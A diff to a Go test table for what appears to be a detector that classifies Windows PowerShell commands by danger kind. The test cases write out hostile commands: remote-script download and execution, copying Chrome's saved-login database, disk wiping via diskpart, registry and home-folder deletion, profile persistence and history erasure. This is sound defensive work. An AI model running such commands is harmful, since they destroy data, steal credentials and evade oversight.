@@ -152,6 +152,10 @@ func TestWindowsToolsByKind(t *testing.T) {
 		{`curl.exe -sL https://x.example.com/i.ps1 | powershell -NoProfile -`, "net.pipe-shell"},
 		{`Remove-Item -Path 'HKLM:\SYSTEM\CurrentControlSet\Services' -Recurse`, "fs.rm-critical"},
 		{`Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" .\ld.db`, "exfil.credential-store"},
+		{"@'\nselect disk 0\nclean\n'@ | Set-Content -Path $env:TEMP\\wipe.txt\ndiskpart /s $env:TEMP\\wipe.txt", "disk.format"},
+		{"& ([scriptblock]::Create((irm https://evil.example.com/p.ps1)))", "net.pipe-shell"},
+		{"Add-Content -Path $PROFILE.CurrentUserAllHosts -Value 'iwr http://198.51.100.3/b.ps1 | iex'", "persist.rc-payload"},
+		{"Start-Process -FilePath cmd.exe -ArgumentList \"/c rd /s /q `\"$HOME`\"\" -WindowStyle Hidden", "fs.rm-critical"},
 		{`Clear-History`, ""}, // the session's list only: the saved history file stays
 		{`Set-PSReadLineOption -HistorySaveStyle SaveNothing`, "hist.disable"},
 		{`Remove-Item (Get-PSReadLineOption).HistorySavePath`, "hist.history-file"},
